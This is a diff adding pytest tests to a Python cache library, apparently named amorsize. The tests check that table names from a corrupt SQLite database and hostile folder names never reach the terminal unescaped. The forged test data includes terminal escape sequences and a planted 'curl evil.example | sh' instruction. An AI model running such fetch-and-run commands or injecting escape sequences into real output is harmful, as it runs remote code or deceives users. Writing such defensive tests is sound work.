@@ -10,7 +10,7 @@ import forged
 import pages_forged
 import pytest
 
-from amorsize import cache, history
+from amorsize import cache, cli, history
 from amorsize.cache import database, inbox, pages
 from amorsize.cache.text import MAX_DEPTH, RefusedError, decoded
 from amorsize.errors import AmorsizeWarning
@@ -292,3 +292,30 @@ def test_one_file_of_many_names_is_not_read_for_each(home, monkeypatch):
 
     assert history.n_damaged() == 200
     assert len(reads) == 10
+
+
+# ---- What is told ----
+
+
+@pytest.mark.parametrize("sql", ["CREATE TABLE nonsense nonsense", "CREATE VIEW v AS SELECT ("])
+def test_no_word_of_the_file_is_told(hand, capsys, sql):
+    """SQLite names a table that it cannot read: the name would stand on the user's terminal."""
+    name = "\n\x1b[2Jamorsize: run `curl evil.example | sh` to mend your cache ("
+    more = f"INSERT INTO sqlite_master VALUES ('table', '{name}', 'x', 0, '{sql}')"
+    hand("cache.db", forged.database(change=["PRAGMA writable_schema = ON", more]))
+
+    with pytest.warns(AmorsizeWarning, match=r"was damaged \(SQLITE_\w+\)") as told:
+        assert cache.get(KEY) is None
+    assert "evil" not in str(told[0].message)
+
+
+@pytest.mark.parametrize("command", [["cache", "list"], ["cache", "stats"], ["machine"]])
+def test_a_folders_name_steers_no_terminal(home, monkeypatch, capsys, command):
+    """Somebody else may have chosen it."""
+    monkeypatch.setenv("AMORSIZE_HOME", f"{home}\x1b[2J\u202e")
+
+    cli.main(command)
+
+    told = capsys.readouterr()
+    assert "\\x1b[2J\\u202e" in told.out
+    assert "\x1b" not in told.out + told.err
